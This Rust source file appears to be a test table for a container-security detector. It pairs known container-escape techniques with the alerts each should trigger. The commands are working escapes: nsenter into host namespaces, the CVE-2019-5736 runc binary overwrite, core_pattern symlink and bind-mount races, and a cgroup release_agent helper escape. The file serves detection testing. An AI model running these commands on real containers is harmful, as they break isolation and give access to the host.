//! Ways out of a container.

use super::Technique;
use watchkeeper::proto::v1::Severity::{Critical, High, Medium};

pub(super) const TECHNIQUES: &[Technique] = &[
    Technique::new(
        "disk-mounted",
        "b mkdir -p /mnt; b mount -t proc proc /mnt",
        &[("escape.host-mount", High), ("cap.dangerous-container", Medium)],
    )
    .with(&["--privileged"]),
    Technique::new(
        "host-namespace",
        "b nsenter -t 2 -m /bin/true",
        &[("escape.host-view", Critical), ("escape.namespace-entry", High)],
    )
    .with(&["--privileged", "--pid", "host"]),
    // CVE-2024-21626: what the runtime puts into the container keeps a directory of the host.
    Technique::new(
        "directory-of-the-host-kept",
        "",
        &[("escape.fd-leak", High)],
    )
    .after("ENTER /bin/sh -c ': < .'"),
    Technique::new(
        "file-of-the-host-written",
        "",
        &[("escape.runtime-overwrite", Critical)],
    )
    .after("ENTER /bin/sh -c 'echo x > planted'"),
    // CVE-2019-5736: a program of the host called runc runs in the container, and is written to once it has ended.
    Technique::new(
        "runtime-overwritten",
        "for p in /proc/[0-9]*; do case $(b readlink $p/exe) in */runc) break;; esac; done; \
         exec 3<$p/exe; b kill ${p#/proc/}; b sleep 1; echo x > /proc/self/fd/3",
        &[("escape.runtime-overwrite", Critical)],
    )
    .with(&["--cap-add", "SYS_PTRACE"])
    .after(
        "cp /bin/sleep DIRECTORY/runc; \
         nsenter -t PID -m -u -i -n -p -- /proc/self/fd/9 30 9< DIRECTORY/runc > /dev/null 2>&1 & sleep 1",
    ),
    // CVE-2025-31133 and its like. The file of the kernel is opened and not written.
    Technique::new(
        "link-in-place-of-a-device",
        "b mkdir -p /root/new/dev; b ln -s /proc/sys/kernel/core_pattern /root/new/dev/null",
        &[("escape.masked-path-race", Critical)],
    ),
    Technique::new(
        "kernel-file-in-place-of-a-device",
        "b touch /dev/x; b mount -o bind /proc/sys/kernel/core_pattern /dev/x; : 3>>/dev/x",
        &[("escape.masked-path-race", Critical)],
    )
    .with(&["--privileged"]),
    Technique::new(
        "mount-over-own-attributes",
        "b mount -o bind /proc/version /proc/self/attr/exec",
        &[("escape.masked-path-race", Critical)],
    )
    .with(&["--privileged"]),
    // The hierarchy is the container's own, so that no other cgroup has this agent.
    Technique::new(
        "helper-of-the-kernel",
        "b mkdir /root/h; b mount -t cgroup -o none,name=watchkeeper$$ cgroup /root/h; b mkdir /root/h/x; \
         b cp /bin/busybox /root/true; layer=$(b sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | b head -n 1); \
         echo $layer/root/true > /root/h/release_agent; echo 1 > /root/h/x/notify_on_release; \
         b sh -c 'echo $$ > /root/h/x/cgroup.procs'; b sleep 1; b rmdir /root/h/x; b umount /root/h",
        &[("escape.usermode-helper", Critical)],
    )
    .with(&["--privileged"])
    .found_on_host(),
];
